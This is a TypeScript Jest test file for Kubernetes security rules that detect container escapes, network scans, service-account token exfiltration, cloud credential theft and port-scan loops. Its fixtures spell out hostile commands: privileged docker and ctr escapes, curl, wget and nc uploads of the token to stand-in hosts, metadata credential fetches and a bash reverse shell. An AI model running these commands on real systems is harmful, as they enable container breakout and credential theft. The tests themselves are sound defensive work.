import { describe, expect, it } from '@jest/globals';

import type { Workload } from '../../workload/types.js';
import type { Rule } from '../types.js';
import { cloudCredentialTheft } from './cloud-credential-theft.js';
import { networkScan } from './network-scan.js';
import { portScanLoop } from './port-scan-loop.js';
import { runtimeClientEscape } from './runtime-client-escape.js';
import { serviceAccountTokenExfil } from './service-account-token-exfil.js';
import { C0, cronJob } from '../../../test/support/workloads.js';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const DOCKER_SOCK = { name: 's', hostPath: { path: '/var/run/docker.sock' } };

/** A container running `command`, with the docker socket mounted when `socket` is set. */
function pod(command: string[], options: { socket?: boolean; env?: Record<string, string> } = {}): Workload {
  const container: Record<string, unknown> = { name: 'c', image: 'registry.example.com/t:1', command };
  if (options.env) container.env = Object.entries(options.env).map(([name, value]) => ({ name, value }));
  if (options.socket) container.volumeMounts = [{ name: 's', mountPath: '/var/run/docker.sock' }];
  return cronJob({ containers: [container], ...(options.socket ? { volumes: [DOCKER_SOCK] } : {}) });
}

const sh = (script: string, options?: { socket?: boolean; env?: Record<string, string> }): Workload =>
  pod(['sh', '-c', script], options);

function paths(rule: Rule, workload: Workload): string[] {
  return rule.check(workload, undefined).map((evidence) => evidence.path);
}

describe('runtime-client-escape', () => {
  it.each<[string, Workload, string[]]>([
    [
      'docker -H unix://… run --privileged --pid=host (seed scenario 3)',
      pod([
        'docker',
        '-H',
        'unix:///var/run/docker.sock',
        'run',
        '--privileged',
        '--pid=host',
        'alpine',
        'sh',
      ]),
      [`${C0}.command[0]`],
    ],
    [
      'docker run -v /:/host over a mounted socket',
      sh('docker run --rm -v /:/host alpine chroot /host', { socket: true }),
      [`${C0}.command[2]`],
    ],
    [
      '--net=host over a mounted socket',
      pod(['docker', 'run', '--net=host', 'x'], { socket: true }),
      [`${C0}.command[0]`],
    ],
    [
      '--mount of /etc',
      pod(['docker', 'run', '--mount', 'type=bind,source=/etc,target=/e', 'x'], { socket: true }),
      [`${C0}.command[0]`],
    ],
    [
      '--cap-add SYS_ADMIN',
      pod(['docker', 'run', '--cap-add', 'SYS_ADMIN', 'x'], { socket: true }),
      [`${C0}.command[0]`],
    ],
    [
      'ctr --address … run --privileged',
      pod(['ctr', '--address', '/run/containerd/containerd.sock', 'run', '--privileged', 'img', 'id']),
      [`${C0}.command[0]`],
    ],
    [
      'ctr --with-ns pid:/proc/1/ns/pid',
      pod([
        'ctr',
        '-a',
        '/run/containerd/containerd.sock',
        'run',
        '--with-ns',
        'pid:/proc/1/ns/pid',
        'img',
        'id',
      ]),
      [`${C0}.command[0]`],
    ],
    ['crictl runp', sh('crictl -r unix:///run/crio/crio.sock runp /tmp/p.json'), [`${C0}.command[2]`]],
    [
      'podman with CONTAINER_HOST in env',
      pod(['podman', 'run', '--privileged', 'x'], {
        env: { CONTAINER_HOST: 'unix:///run/podman/podman.sock' },
      }),
      [`${C0}.command[0]`],
    ],
    [
      'DOCKER_HOST assignment',
      sh('DOCKER_HOST=unix:///d.sock docker run --pid host x'),
      [`${C0}.command[2]`],
    ],
    // Benign look-alikes.
    [
      'crictl rmi --prune',
      pod(['crictl', '-r', 'unix:///run/containerd/containerd.sock', 'rmi', '--prune']),
      [],
    ],
    ['docker build over the socket', sh('docker build -t r/x . && docker push r/x', { socket: true }), []],
    [
      'plain docker run over the socket',
      pod(['docker', 'run', '--rm', 'alpine', 'make', 'test'], { socket: true }),
      [],
    ],
    ['named volume', pod(['docker', 'run', '-v', 'cache:/root/.cache', 'x'], { socket: true }), []],
    [
      '--privileged on a TCP (dind) daemon',
      pod(['docker', '--host', 'tcp://docker:2375', 'run', '--privileged', 'x']),
      [],
    ],
    ['--privileged with no runtime reachable', pod(['docker', 'run', '--privileged', 'x']), []],
    [
      '--privileged as the inner command’s argument',
      pod(['docker', 'run', 'x', 'echo', '--privileged'], { socket: true }),
      [],
    ],
  ])('%s', (_name, workload, expected) => {
    expect(paths(runtimeClientEscape, workload)).toEqual(expected);
  });
});

describe('network-scan', () => {
  it.each<[string, Workload, string[]]>([
    ['nmap over a CIDR', sh('nmap -sS -p- 10.0.0.0/16 -oN /tmp/s'), [`${C0}.command[2]`]],
    ['nmap one host (a port scan)', pod(['nmap', 'kubernetes.default']), [`${C0}.command[0]`]],
    ['masscan', pod(['masscan', '10.0.0.0/8', '-p10250']), [`${C0}.command[0]`]],
    ['kube-hunter', pod(['kube-hunter', '--pod']), [`${C0}.command[0]`]],
    ['nc -z over a port range', sh('nc -zv -w 1 10.96.0.1 1-1024'), [`${C0}.command[2]`]],
    ['nc -z over a CIDR', pod(['nc', '-z', '10.0.0.0/24', '22']), [`${C0}.command[0]`]],
    // Benign look-alikes.
    ['nmap --version', pod(['nmap', '--version']), []],
    ['nc without -z and a range-looking word', pod(['nc', 'h', '80']), []],
  ])('%s', (_name, workload, expected) => {
    expect(paths(networkScan, workload)).toEqual(expected);
  });
});

describe('service-account-token-exfil', () => {
  it.each<[string, Workload, string[]]>([
    [
      'curl --data-binary @token',
      sh(`curl -X POST --data-binary @${TOKEN} http://198.51.100.23/t`),
      [`${C0}.command[2]`],
    ],
    [
      'curl -F file=@token',
      pod(['curl', '-F', `file=@${TOKEN}`, 'https://exfil.example/u']),
      [`${C0}.command[2]`],
    ],
    ['curl -T token', pod(['curl', '-T', TOKEN, 'ftp://h/']), [`${C0}.command[2]`]],
    ['wget --post-file', pod(['wget', `--post-file=${TOKEN}`, 'http://h.example/x']), [`${C0}.command[1]`]],
    [
      'wget --post-data "$(cat token)"',
      sh(`wget -q --post-data "t=$(cat ${TOKEN})" http://198.51.100.23/r`),
      [`${C0}.command[2]`],
    ],
    ['nc host port < token', sh(`nc 198.51.100.23 9 < ${TOKEN}`), [`${C0}.command[2]`]],
    ['cat token | curl -d @-', sh(`cat ${TOKEN} | curl -d @- https://exfil.example/`), [`${C0}.command[2]`]],
    [
      'copied, then uploaded',
      sh(`cp ${TOKEN} /tmp/t; curl -T /tmp/t http://h.example/`),
      [`${C0}.command[2]`],
    ],
    [
      'Bearer to a foreign host',
      sh(`curl -H "Authorization: Bearer $(cat ${TOKEN})" https://api.evil.example/`),
      [`${C0}.command[2]`],
    ],
    [
      'python inline code',
      pod([
        'python3',
        '-c',
        `import urllib.request as u;u.urlopen("http://h.example/",open("${TOKEN}","rb").read())`,
      ]),
      [`${C0}.command[2]`],
    ],
    // Benign look-alikes.
    [
      'Bearer to kubernetes.default.svc',
      sh(`curl -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`),
      [],
    ],
    [
      'TOKEN variable to $KUBERNETES_SERVICE_HOST',
      sh(`T=$(cat ${TOKEN}); curl -H "Authorization: Bearer $T" https://$KUBERNETES_SERVICE_HOST/api`),
      [],
    ],
    ['unresolved destination', sh(`curl -d @${TOKEN} "$TARGET"`), []],
    [
      'ca.crt is not the token',
      sh('curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://h.example/'),
      [],
    ],
    ['token read, nothing sent', pod(['cat', TOKEN]), []],
  ])('%s', (_name, workload, expected) => {
    expect(paths(serviceAccountTokenExfil, workload)).toEqual(expected);
  });
});

describe('cloud-credential-theft', () => {
  it.each<[string, Workload, string[]]>([
    [
      'AWS IAM role',
      pod(['curl', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']),
      [`${C0}.command[1]`],
    ],
    [
      'AWS IMDSv2 token then credentials',
      sh(
        'T=$(curl -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 60" http://169.254.169.254/latest/api/token); curl -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/r',
      ),
      [`${C0}.command[2]`],
    ],
    [
      'GCP service-account token',
      sh(
        'curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      ),
      [`${C0}.command[2]`],
    ],
    [
      'Azure managed identity',
      pod([
        'curl',
        '-H',
        'Metadata:true',
        'http://169.254.169.254/metadata/identity/oauth2/token?resource=x',
      ]),
      [`${C0}.command[3]`],
    ],
    [
      'Alibaba RAM role',
      pod(['curl', 'http://100.100.100.200/latest/meta-data/ram/security-credentials/r']),
      [`${C0}.command[1]`],
    ],
    [
      'ECS task credentials',
      sh('wget -qO- http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'),
      [`${C0}.command[2]`],
    ],
    [
      'credential URL in env',
      pod(['sh'], { env: { U: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' } }),
      [`${C0}.env[0].value`],
    ],
    // Benign look-alikes.
    ['region lookup', pod(['curl', 'http://169.254.169.254/latest/meta-data/placement/region']), []],
    ['IMDSv2 session token alone', pod(['curl', '-X', 'PUT', 'http://169.254.169.254/latest/api/token']), []],
    [
      'EKS Pod Identity env',
      pod(['app'], { env: { AWS_CONTAINER_CREDENTIALS_FULL_URI: 'http://169.254.170.23/v1/credentials' } }),
      [],
    ],
  ])('%s', (_name, workload, expected) => {
    expect(paths(cloudCredentialTheft, workload)).toEqual(expected);
  });
});

describe('port-scan-loop', () => {
  it.each<[string, Workload, string[]]>([
    [
      'a Python connect_ex loop over a range',
      pod([
        'python3',
        '-c',
        'import socket;[p for p in range(1,1025) if socket.socket().connect_ex(("10.96.0.1",p))==0]',
      ]),
      [`${C0}.command[0]`],
    ],
    [
      'a Perl IO::Socket loop',
      pod([
        'perl',
        '-MIO::Socket::INET',
        '-e',
        'for $p (1..1024) { IO::Socket::INET->new("10.0.0.1:$p") and print $p }',
      ]),
      [`${C0}.command[0]`],
    ],
    [
      'a shell loop over /dev/tcp/HOST/$PORT',
      sh('for p in $(seq 1 1024); do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null && echo $p; done'),
      [`${C0}.command[2]`],
    ],
    // Benign look-alikes.
    [
      'a Python wait-for-db retry loop',
      pod([
        'python3',
        '-c',
        'import socket,time\nfor i in range(30):\n  try: socket.create_connection(("db",5432),2); break\n  except OSError: time.sleep(1)',
      ]),
      [],
    ],
    ['a reverse shell on a literal port is not a scan', sh('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), []],
    ['wait-for-db', sh('until nc -z db 5432; do sleep 1; done'), []],
    ['nc -z -w 2 with one port', pod(['nc', '-z', '-w', '2', 'redis', '6379']), []],
    ["nc -z over a port range is network-scan's", sh('nc -zv -w 1 10.96.0.1 1-1024'), []],
  ])('%s', (_name, workload, expected) => {
    expect(paths(portScanLoop, workload)).toEqual(expected);
  });
});
